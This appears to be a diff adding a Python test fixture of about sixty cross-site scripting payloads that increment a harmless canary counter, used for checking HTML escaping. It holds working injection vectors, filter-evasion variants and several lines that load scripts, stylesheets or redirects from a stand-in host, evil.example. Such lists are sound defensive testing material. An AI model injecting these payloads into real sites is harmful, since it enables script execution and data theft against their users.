@@ -1,0 +1,73 @@
+"""Sixty texts that would run code in a page that does not escape them. Each counts in `window.canary` if it runs."""
+
+CODE = "window.canary=(window.canary||0)+1"
+_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
+
+PAYLOADS = (
+    f"<script>{CODE}</script>",
+    f"</style><script>{CODE}</script>",
+    f"</title><script>{CODE}</script>",
+    f"</textarea><script>{CODE}</script>",
+    f"--><script>{CODE}</script><!--",
+    f"]]><script>{CODE}</script>",
+    f"<ScRiPt>{CODE}</sCrIpT>",
+    f"<script/x>{CODE}</script/x>",
+    f"<script\n>{CODE}</script\n>",
+    f"<scr<script>ipt>{CODE}</scr</script>ipt>",
+    f"<script src=data:text/javascript,{CODE}></script>",
+    "<script src=//evil.example/x.js></script>",
+    f"<img src=x onerror={CODE}>",
+    f"<img src=x onerror='{CODE}'>",
+    f'"><img src=x onerror="{CODE}">',
+    f"'><img src=x onerror='{CODE}'>",
+    f"><img src=x onerror={CODE}>",
+    f"<img/src=x/onerror={CODE}>",
+    f"<img src=x:x onerror\n=\n{CODE}>",
+    "<img src=//evil.example/x.png>",
+    f"<svg onload={CODE}>",
+    f"<svg/onload={CODE}//",
+    f"<svg><script>{CODE}</script></svg>",
+    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{CODE}><text>x</text></a></svg>",
+    f"<math><mtext></mtext><script>{CODE}</script></math>",
+    f"<body onload={CODE}>",
+    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{CODE}'></iframe>",
+    f"<object data='data:text/html,<script>parent.{CODE}</script>'></object>",
+    f"<embed src='javascript:{CODE}'>",
+    f"<details open ontoggle={CODE}>x</details>",
+    f"<input autofocus onfocus={CODE}>",
+    f"<select autofocus onfocus={CODE}></select>",
+    f"<video><source onerror={CODE}></video>",
+    f"<audio src=x onerror={CODE}></audio>",
+    f"<marquee onstart={CODE}>x</marquee>",
+    f"<form action='javascript:{CODE}'><button autofocus>x</button></form>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<base href=http://evil.example/>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<style>body{background:url(http://evil.example/x.png)}</style>",
+    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={CODE}>x</b>",
+    f"<a href='javascript:{CODE}' autofocus>x</a>",
+    f"[x](javascript:{CODE})",
+    f'![x](x" onerror="{CODE})',
+    f"<javascript:{CODE}>",
+    f"[x]: javascript:{CODE}\n[x]",
+    f"\n\n<script>{CODE}</script>\n\n",
+    f"```\n<script>{CODE}</script>",
+    f"| <script>{CODE}</script> |",
+    f"{{{{ ''.__class__ }}}}{{% raw %}}<script>{CODE}</script>",
+    f"${{{CODE}}}`-{CODE}-`",
+    f"&lt;script&gt;{CODE}&lt;/script&gt;",
+    f"&#60;script&#62;{CODE}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{CODE}\\u003c/script\\u003e",
+    f"+ADw-script+AD4-{CODE}+ADw-/script+AD4-",
+    f"\x00<\x00script>{CODE}</script>",
+)
+
+
+def in_attributes() -> str:
+    """Return a text that leaves an attribute of either quote, and adds every handler."""
+    handlers = " ".join(f"{name}={CODE}" for name in _HANDLERS)
+    return f"\" {handlers} x=\" ' {handlers} x='"
